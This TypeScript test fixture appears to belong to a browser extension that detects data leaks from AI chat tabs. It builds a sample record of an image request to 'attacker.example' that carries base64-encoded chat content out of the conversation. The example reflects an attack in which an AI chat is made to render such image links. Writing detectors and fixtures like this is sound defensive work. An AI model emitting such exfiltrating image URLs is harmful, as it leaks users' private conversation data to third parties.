import type { Attempt, ChatReport } from '../../../lib/model/attempt';

/** An attempt as the background keeps it, with changes. */
export function attemptRecord(change: Partial<Attempt> = {}): Attempt {
  return {
    id: 'attempt-1',
    at: 1_796_000_000_000,
    times: 1,
    frameId: 0,
    url: 'https://attacker.example/p.png?d=SmFuZQ',
    answer: null,
    state: 'held',
    verdict: {
      kind: 'image',
      destination: {
        host: 'attacker.example',
        shownHost: 'attacker.example',
        registrable: 'attacker.example',
        chain: [],
        receiver: 'attacker.example',
        standing: 'foreign',
      },
      made: true,
      carries: [
        { text: 'Jordan Example 482913', where: 'value', steps: ['base64'], overlap: 'Jordan Example' },
      ],
      reasons: ['carries-chat', 'foreign-host'],
      gravity: 'loud',
      hold: { guard: true, strict: true, watch: false },
    },
    ...change,
  };
}

/** What is known of a chat's tab. */
export function chatRecord(attempts: readonly Attempt[] = []): ChatReport {
  return { chat: 'le-chat', title: 'Le Chat', mode: 'guard', attempts, more: 0 };
}
